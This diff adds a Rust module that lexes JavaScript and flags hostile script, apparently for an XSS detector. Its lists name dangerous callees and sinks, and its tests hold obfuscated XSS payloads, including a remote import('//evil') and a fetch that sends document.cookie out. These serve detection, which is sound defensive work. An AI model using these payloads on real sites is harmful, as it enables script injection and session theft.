@@ -1,0 +1,516 @@
+//! A small JavaScript lexer and the judgement of its tokens: does this
+//! snippet do something hostile? Used wherever script runs: event-handler
+//! values, `javascript:` URLs, `<script>` bodies, and the code after a
+//! string or attribute break-out.
+//!
+//! Hostile means a call of a function that shows, runs or sends something
+//! (`alert(1)`, `eval(...)`, `fetch(...)`), however the callee is spelled:
+//! `alert`1``, `(alert)(1)`, `top['al'+'ert'](1)`, `a=alert,a(1)`,
+//! `alert.call(null,1)`, `[].constructor.constructor(...)()`; or a read or
+//! write of a sensitive property (`document.cookie`, `location=...`,
+//! `x.innerHTML=...`).
+
+use std::ops::Range;
+
+/// How much evidence a context needs.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Mode {
+    /// The text may be prose: only a hostile call or sink counts.
+    Strict,
+    /// The text is known to be script (a handler, a `javascript:` URL): any
+    /// call or assignment counts.
+    Loose,
+    /// The text is the whole value, with no break-out before it: only
+    /// callees no prose calls (`alert(`, not `open(` or `print(`).
+    Bare,
+}
+
+/// Callees that are also English words or common helpers: hostile after a
+/// break-out, not on their own.
+const WORDY: &[&[u8]] = &[
+    b"open",
+    b"print",
+    b"write",
+    b"writeln",
+    b"import",
+    b"unescape",
+    b"decodeuricomponent",
+    b"btoa",
+    b"msgbox",
+];
+
+/// Callees that display, evaluate, load or send (lower-case; JS is case
+/// sensitive but upper-cased payloads still signal intent).
+const CALLABLE: &[&[u8]] = &[
+    b"alert",
+    b"prompt",
+    b"confirm",
+    b"eval",
+    b"settimeout",
+    b"setinterval",
+    b"setimmediate",
+    b"execscript",
+    b"fetch",
+    b"import",
+    b"importscripts",
+    b"atob",
+    b"btoa",
+    b"globaleval",
+    b"fromcharcode",
+    b"constructor",
+    b"write",
+    b"writeln",
+    b"open",
+    b"print",
+    b"sendbeacon",
+    b"xmlhttprequest",
+    b"msgbox",
+    b"showmodaldialog",
+    b"insertadjacenthtml",
+    b"getscript",
+    b"unescape",
+    b"decodeuricomponent",
+];
+
+/// Objects whose computed members (`top[...]`, `window[...]`) reach every
+/// global function.
+const GLOBALS: &[&[u8]] = &[
+    b"window",
+    b"top",
+    b"self",
+    b"parent",
+    b"frames",
+    b"globalthis",
+    b"this",
+    b"content",
+    b"opener",
+];
+
+/// Properties that leak or navigate when read or written on `document`,
+/// `window` and friends.
+const SENSITIVE: &[&[u8]] = &[b"cookie", b"domain", b"location", b"write", b"writeln"];
+
+/// Members of `document` that read or rewrite the page: a value that is a
+/// script using them is DOM manipulation.
+const DOCUMENT: &[&[u8]] = &[
+    b"body",
+    b"head",
+    b"documentelement",
+    b"createelement",
+    b"queryselector",
+    b"queryselectorall",
+    b"getelementbyid",
+    b"getelementsbytagname",
+    b"getelementsbyname",
+    b"forms",
+    b"url",
+    b"referrer",
+    b"execcommand",
+];
+
+/// Words followed by `(` that are syntax, not calls.
+const KEYWORDS: &[&[u8]] = &[
+    b"if",
+    b"for",
+    b"while",
+    b"switch",
+    b"void",
+    b"typeof",
+    b"return",
+    b"catch",
+    b"function",
+    b"with",
+    b"in",
+    b"of",
+    b"new",
+    b"delete",
+    b"do",
+    b"else",
+];
+
+/// Whether a word can start or carry a hostile finding: a callee, a global
+/// object, or a sensitive property. Callers use it to look for script only
+/// near such words.
+pub(crate) fn is_trigger(word: &[u8]) -> bool {
+    is_callable(word)
+        || is_in(GLOBALS, word)
+        || is_in(SENSITIVE, word)
+        || is_in(&[b"document", b"innerhtml", b"outerhtml", b"srcdoc"], word)
+}
+
+fn is_in(set: &[&[u8]], name: &[u8]) -> bool {
+    set.iter().any(|s| name.eq_ignore_ascii_case(s))
+}
+
+/// A callee: `Function` must keep its capital (`function(` is a keyword).
+fn is_callable(name: &[u8]) -> bool {
+    name == b"Function" || is_in(CALLABLE, name)
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Kind {
+    Ident,
+    Str,
+    Template,
+    Num,
+    Regex,
+    Punct(u8),
+}
+
+#[derive(Clone, Debug)]
+struct Tok {
+    kind: Kind,
+    span: Range<usize>,
+}
+
+/// Lexes `src[pos..]` one token at a time, skipping whitespace and comments.
+struct Lexer<'a> {
+    src: &'a [u8],
+    pos: usize,
+    /// Whether a `/` here starts a regular expression (after an operator).
+    regex_ok: bool,
+}
+
+fn ident_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b == b'_' || b == b'$' || b >= 0x80
+}
+
+impl Iterator for Lexer<'_> {
+    type Item = Tok;
+
+    fn next(&mut self) -> Option<Tok> {
+        let src = self.src;
+        let mut p = self.pos;
+        loop {
+            while p < src.len() && (src[p] <= b' ') {
+                p += 1;
+            }
+            if src[p..].starts_with(b"//") || src[p..].starts_with(b"<!--") {
+                p = memchr::memchr(b'\n', &src[p..]).map_or(src.len(), |i| p + i);
+            } else if src[p..].starts_with(b"/*") {
+                p = memchr::memmem::find(&src[p + 2..], b"*/").map_or(src.len(), |i| p + 2 + i + 2);
+            } else {
+                break;
+            }
+        }
+        if p >= src.len() {
+            self.pos = p;
+            return None;
+        }
+        let start = p;
+        let b = src[p];
+        let kind = if ident_byte(b) && !b.is_ascii_digit() {
+            while p < src.len() && ident_byte(src[p]) {
+                p += 1;
+            }
+            Kind::Ident
+        } else if b.is_ascii_digit() {
+            while p < src.len() && (ident_byte(src[p]) || src[p] == b'.') {
+                p += 1;
+            }
+            Kind::Num
+        } else if b == b'"' || b == b'\'' || b == b'`' {
+            p += 1;
+            while p < src.len() && src[p] != b {
+                if src[p] == b'\\' {
+                    p += 1;
+                } else if src[p] == b'\n' && b != b'`' {
+                    break;
+                }
+                p += 1;
+            }
+            p = (p + 1).min(src.len());
+            if b == b'`' {
+                Kind::Template
+            } else {
+                Kind::Str
+            }
+        } else if b == b'/' && self.regex_ok {
+            p += 1;
+            while p < src.len() && src[p] != b'/' && src[p] != b'\n' {
+                if src[p] == b'\\' {
+                    p += 1;
+                }
+                p += 1;
+            }
+            p = (p + 1).min(src.len());
+            while p < src.len() && src[p].is_ascii_alphabetic() {
+                p += 1;
+            }
+            Kind::Regex
+        } else {
+            p += 1;
+            Kind::Punct(b)
+        };
+        self.pos = p;
+        self.regex_ok = matches!(kind, Kind::Punct(c) if c != b')' && c != b']' && c != b'}');
+        Some(Tok {
+            kind,
+            span: start..p,
+        })
+    }
+}
+
+/// The content of a string token, without quotes or escapes, bounded.
+fn str_content(src: &[u8], span: &Range<usize>, out: &mut Vec<u8>) {
+    let inner = &src[span.start + 1..span.end.max(span.start + 1)];
+    let inner = match inner.last() {
+        Some(&q) if q == src[span.start] => &inner[..inner.len() - 1],
+        _ => inner,
+    };
+    let mut esc = false;
+    for &b in inner {
+        if out.len() >= 32 {
+            return;
+        }
+        if b == b'\\' && !esc {
+            esc = true;
+            continue;
+        }
+        esc = false;
+        out.push(b);
+    }
+}
+
+/// A callee waiting to see whether it is called.
+#[derive(Clone, Debug)]
+struct Pending {
+    start: usize,
+    /// Preceded by `=`, `,`, `(`, ... : taken as a value (`a=alert`).
+    as_value: bool,
+}
+
+/// Finds hostile script in `src[range]`; returns the evidence span.
+pub(crate) fn hostile(src: &[u8], range: Range<usize>, mode: Mode) -> Option<Range<usize>> {
+    scan(src, range, mode, 2)
+}
+
+/// [`hostile`], entering template literals at most `depth` deep.
+fn scan(src: &[u8], range: Range<usize>, mode: Mode, depth: u8) -> Option<Range<usize>> {
+    let end = range.end.min(src.len());
+    let src = &src[..end];
+    let lexer = Lexer {
+        src,
+        pos: range.start.min(end),
+        regex_ok: true,
+    };
+    let mut pending: Option<Pending> = None;
+    // The token before the current one, and the one before that.
+    let mut prev: Option<Tok> = None;
+    let mut prev2: Option<Tok> = None;
+    // Folding of `'al'+'ert'` inside `[...]`.
+    let mut folded: Vec<u8> = Vec::new();
+    let mut bracket: Option<(usize, bool)> = None; // (start, only strings and `+`)
+    let mut global_index = false;
+    let mut member_of: Option<Range<usize>> = None;
+    let mut sens: Option<(usize, bool)> = None;
+
+    for tok in lexer {
+        let text = &src[tok.span.clone()];
+        // A sensitive property followed by `=` (not `==`): navigation or
+        // markup injection.
+        match sens.take() {
+            Some((s, false)) if tok.kind == Kind::Punct(b'=') => sens = Some((s, true)),
+            Some((s, true)) if tok.kind != Kind::Punct(b'=') => return Some(s..tok.span.end),
+            _ => {}
+        }
+        if let Some(pd) = pending.clone() {
+            match tok.kind {
+                // A whole value is prose more often than script: there the
+                // call must be written like code, `confirm(` not `confirm (`.
+                Kind::Punct(b'(') | Kind::Template
+                    if mode == Mode::Bare
+                        && prev.as_ref().is_some_and(|p| p.span.end != tok.span.start) =>
+                {
+                    pending = None
+                }
+                Kind::Punct(b'(') | Kind::Template => return Some(pd.start..tok.span.end),
+                Kind::Punct(b')') => {}
+                Kind::Punct(b'.') => {}
+                // `self['$']['globalEval'](...)`: a chain of computed members.
+                Kind::Punct(b'[') => {}
+                Kind::Ident if is_in(&[b"call", b"apply", b"bind"], text) => {}
+                Kind::Punct(b',' | b';' | b']' | b'}') if pd.as_value => {
+                    return Some(pd.start..tok.span.end)
+                }
+                _ => pending = None,
+            }
+        }
+        match tok.kind {
+            Kind::Ident => {
+                let after_dot = prev.as_ref().is_some_and(|p| p.kind == Kind::Punct(b'.'));
+                if let Some(obj) = member_of.take() {
+                    let obj_name = &src[obj.clone()];
+                    let document = obj_name.eq_ignore_ascii_case(b"document");
+                    if after_dot
+                        && ((document || is_in(GLOBALS, obj_name)) && is_in(SENSITIVE, text)
+                            || document && is_in(DOCUMENT, text))
+                    {
+                        return Some(obj.start..tok.span.end);
+                    }
+                }
+                if is_callable(text) && !(mode == Mode::Bare && is_in(WORDY, text)) {
+                    let as_value = prev.as_ref().is_some_and(|p| {
+                        matches!(
+                            p.kind,
+                            Kind::Punct(b'=' | b',' | b'(' | b':' | b'?' | b'|' | b'&' | b'{')
+                        )
+                    }) && !after_dot;
+                    pending = Some(Pending {
+                        start: tok.span.start,
+                        as_value,
+                    });
+                } else if mode == Mode::Loose && !is_in(KEYWORDS, text) {
+                    pending = Some(Pending {
+                        start: tok.span.start,
+                        as_value: false,
+                    });
+                }
+                let location_href = text.eq_ignore_ascii_case(b"href")
+                    && after_dot
+                    && prev2
+                        .as_ref()
+                        .is_some_and(|p| src[p.span.clone()].eq_ignore_ascii_case(b"location"));
+                if location_href
+                    || is_in(&[b"location", b"innerhtml", b"outerhtml", b"srcdoc"], text)
+                {
+                    sens = Some((tok.span.start, false));
+                }
+            }
+            Kind::Punct(b'.') => {
+                if let Some(p) = &prev {
+                    if p.kind == Kind::Ident {
+                        member_of = Some(p.span.clone());
+                    }
+                }
+            }
+            Kind::Template if depth > 0 => {
+                // `${alert}` and calls inside a template literal run too.
+                let inner =
+                    tok.span.start + 1..tok.span.end.saturating_sub(1).max(tok.span.start + 1);
+                if let Some(found) = scan(src, inner, Mode::Strict, depth - 1) {
+                    return Some(found);
+                }
+            }
+            Kind::Punct(b'[') => {
+                global_index = pending.is_some()
+                    || prev.as_ref().is_some_and(|p| {
+                        p.kind == Kind::Ident && is_in(GLOBALS, &src[p.span.clone()])
+                    });
+                bracket = Some((tok.span.start, true));
+                folded.clear();
+            }
+            Kind::Str => {
+                let joined = prev.as_ref().is_some_and(|p| p.kind == Kind::Punct(b'+'))
+                    && prev2.as_ref().is_some_and(|p| p.kind == Kind::Str);
+                if !joined {
+                    folded.clear();
+                }
+                str_content(src, &tok.span, &mut folded);
+            }
+            Kind::Punct(b'+') => {}
+            Kind::Punct(b']') => {
+                if let Some((start, pure)) = bracket.take() {
+                    if pure && (is_callable(&folded) || is_in(SENSITIVE, &folded)) {
+                        if is_in(SENSITIVE, &folded) {
+                            return Some(start..tok.span.end);
+                        }
+                        pending = Some(Pending {
+                            start,
+                            as_value: false,
+                        });
+                    } else if global_index {
+                        // `top[x](1)`: whatever the index computes, calling
+                        // a global's member runs a global function.
+                        pending = Some(Pending {
+                            start,
+                            as_value: false,
+                        });
+                    }
+                }
+                global_index = false;
+            }
+            _ => {}
+        }
+        if let Some((_, pure)) = &mut bracket {
+            if !matches!(tok.kind, Kind::Str | Kind::Punct(b'+' | b'[')) {
+                *pure = false;
+            }
+        }
+        prev2 = prev.take();
+        prev = Some(tok);
+    }
+    // The end of the snippet also ends a reference: `onerror=alert`.
+    if let Some(pd) = pending {
+        if pd.as_value {
+            return Some(pd.start..end);
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn strict(s: &str) -> bool {
+        hostile(s.as_bytes(), 0..s.len(), Mode::Strict).is_some()
+    }
+    fn loose(s: &str) -> bool {
+        hostile(s.as_bytes(), 0..s.len(), Mode::Loose).is_some()
+    }
+
+    #[test]
+    fn hostile_calls() {
+        for s in [
+            "alert(1)",
+            "alert`1`",
+            "(alert)(1)",
+            "top['al'+'ert'](1)",
+            "window['alert'](1)",
+            "a=alert,a(1)",
+            "alert.call(null,1)",
+            "[].constructor.constructor('x')()",
+            "document.cookie",
+            "location='//evil'",
+            "x.innerHTML='<b>'",
+            "eval(atob('YQ=='))",
+            "new Function('x')()",
+            "setTimeout('x',1)",
+            "top[8680439..toString(30)](1)",
+            "onerror=alert;throw 1",
+            "[1].map(alert)",
+            "alert(/x/)",
+            "/**/alert(1)",
+            "String.fromCharCode(88)",
+            "import('//evil')",
+            "fetch('//x?'+document.cookie)",
+            "self['$']['globalEval']('alert(1)')",
+            "[].sort.call`${alert}1337`",
+            "document /*x*/ . cookie",
+            "document.body.appendChild(x)",
+        ] {
+            assert!(strict(s), "{s}");
+        }
+    }
+
+    #[test]
+    fn prose_is_not_hostile() {
+        for s in [
+            "please alert the team",
+            "open the door",
+            "if (a) b",
+            "the location is Paris",
+            "a == location",
+            "x = 1",
+            "function(a, b)",
+            "I print things",
+        ] {
+            assert!(!strict(s), "{s}");
+        }
+        assert!(!loose("void(0)"));
+        assert!(!loose(";"));
+        assert!(loose("history.back()"));
+        assert!(loose("foo(1)"));
+    }
+}
